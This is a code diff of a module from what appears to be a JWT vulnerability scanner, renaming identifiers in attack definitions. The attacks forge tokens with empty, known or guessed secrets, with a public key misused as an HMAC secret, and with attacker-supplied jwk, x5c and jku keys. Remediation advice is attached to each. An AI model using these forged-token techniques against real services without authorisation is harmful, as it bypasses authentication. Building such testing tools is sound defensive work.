@@ -14,27 +14,27 @@ import { badToken, breach } from '../judge-response.ts';
 import type { Outcome } from '../outcome.ts';
 import { knownSecrets } from './known-secrets.ts';
 
-const guessed: AttackDefaults = {
+const guessable: AttackDefaults = {
   group: 'key',
   lesson: 1,
   advice:
     'Take a random secret of at least 32 bytes from the environment, and let no server start without one (RFC 7518, 3.2; RFC 8725, 3.5).',
 };
 
-const brought: AttackDefaults = {
+const embedded: AttackDefaults = {
   group: 'key',
   lesson: 4,
   advice:
     'Take the key from your own settings and never from the token: refuse every header member but alg and typ (RFC 8725, 3.10).',
 };
 
-const own = generateKeyPairSync('ec', { namedCurve: 'P-256' });
-const jwk = own.publicKey.export({ format: 'jwk' });
+const ownKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+const jwk = ownKey.publicKey.export({ format: 'jwk' });
 const octets = randomBytes(32).toString('base64url');
 
-/** The attacker has the key: it is known, it can be guessed, or the token brings it along. */
+/** Tokens signed with a key that is known, can be guessed, or is in the token itself. */
 export const key: Attack[] = [
-  ...tokenAttacks(guessed, [
+  ...tokenAttacks(guessable, [
     {
       id: 'key-empty',
       name: 'signed with the empty secret',
@@ -75,10 +75,10 @@ export const key: Attack[] = [
       id: 'key-public',
       name: 'signed with the text of a public key',
       gains: 'A server that keeps a public key takes its text, which everybody has, for a secret.',
-      token: signedWith(() => own.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
+      token: signedWith(() => ownKey.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
     },
   ]),
-  ...customAttacks(guessed, [
+  ...customAttacks(guessable, [
     {
       id: 'key-known',
       name: `${knownSecrets.length} known secrets, tried at home on a good token`,
@@ -87,7 +87,7 @@ export const key: Attack[] = [
     },
   ]),
 
-  ...tokenAttacks(brought, [
+  ...tokenAttacks(embedded, [
     {
       id: 'key-kid-empty-file',
       name: 'kid of an empty file, signed with the empty secret',
@@ -118,8 +118,8 @@ export const key: Attack[] = [
       name: 'jwk with a secret of the attacker’s, signed with it',
       gains: 'The token brings the key that it is checked with.',
       token: ({ claims }) => {
-        const brought = { kty: 'oct', k: Buffer.from(octets).toString('base64url') };
-        return forge(claims, octets, { header: { typ: 'JWT', alg: 'HS256', jwk: brought } });
+        const embedded = { kty: 'oct', k: Buffer.from(octets).toString('base64url') };
+        return forge(claims, octets, { header: { typ: 'JWT', alg: 'HS256', jwk: embedded } });
       },
     },
     {
@@ -127,20 +127,20 @@ export const key: Attack[] = [
       name: 'jwk with a public key of the attacker’s, signed with the private one',
       gains:
         'The token brings the key that it is checked with, and it even looks like a proper one.',
-      token: (session) => signedByOwn(session, { jwk }),
+      token: (session) => signedByOwnKey(session, { jwk }),
     },
     {
       id: 'key-x5c',
       name: 'x5c with a certificate of the attacker’s, signed with its key',
       gains: 'A certificate that nobody has vouched for is as good as one of ours.',
       token: (session) =>
-        signedByOwn(session, {
-          x5c: [own.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
+        signedByOwnKey(session, {
+          x5c: [ownKey.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
         }),
     },
   ]),
   ...customAttacks(
-    brought,
+    embedded,
     [
       [
         'jku',
@@ -151,12 +151,12 @@ export const key: Attack[] = [
       id: `key-${member}`,
       name: `${member} with an address of the attacker’s, which listens there`,
       gains,
-      run: (session: AttackSession) => lureAway(session, member),
+      run: (session: AttackSession) => checkKeyRequests(session, member),
     })),
   ),
 ];
 
-/** A guess that is right would make the good token once more, so there is a claim more in it. */
+/** Adds a claim: with a right guess the token would otherwise equal the good one. */
 function signedWith(secret: (session: AttackSession) => string) {
   return (session: AttackSession): string =>
     forge({ ...session.claims, forged: true }, secret(session), { header: session.header });
@@ -166,13 +166,13 @@ function withKid(kid: string) {
   return { typ: 'JWT', alg: 'HS256', kid };
 }
 
-function signedByOwn({ claims }: AttackSession, members: object): string {
+function signedByOwnKey({ claims }: AttackSession, members: object): string {
   const text = `${segment({ typ: 'JWT', alg: 'ES256', ...members })}.${segment(claims)}`;
-  const key = { key: own.privateKey, dsaEncoding: 'ieee-p1363' } as const;
+  const key = { key: ownKey.privateKey, dsaEncoding: 'ieee-p1363' } as const;
   return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
 }
 
-/** A good token and a list of words are all it takes: no server counts these attempts. */
+/** Guesses the secret offline, with a good token and a list of words; no server can count these attempts. */
 async function guessSecret(session: AttackSession): Promise<Outcome> {
   const [header, claims, signature] = segmentsOf(session.token);
   const secret = knownSecrets.find((word) => sign(`${header}.${claims}`, word) === signature);
@@ -182,8 +182,8 @@ async function guessSecret(session: AttackSession): Promise<Outcome> {
   return breach(response, 'a secret that is on no list of known ones', true);
 }
 
-/** Listens at an address, names it in a token, and counts who comes. */
-async function lureAway(session: AttackSession, member: string): Promise<Outcome> {
+/** Names a local server in a token, and counts the requests to it. */
+async function checkKeyRequests(session: AttackSession, member: string): Promise<Outcome> {
   let visits = 0;
   const trap = createServer((_request, response) => {
     visits += 1;
@@ -192,7 +192,7 @@ async function lureAway(session: AttackSession, member: string): Promise<Outcome
   await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
   const place = trap.address();
   const port = typeof place === 'object' && place !== null ? place.port : 0;
-  const token = signedByOwn(session, { [member]: `http://127.0.0.1:${port}/keys.json` });
+  const token = signedByOwnKey(session, { [member]: `http://127.0.0.1:${port}/keys.json` });
   const response = (await present(session, token)) ?? session.loginResponse;
   trap.close();
   trap.closeAllConnections();
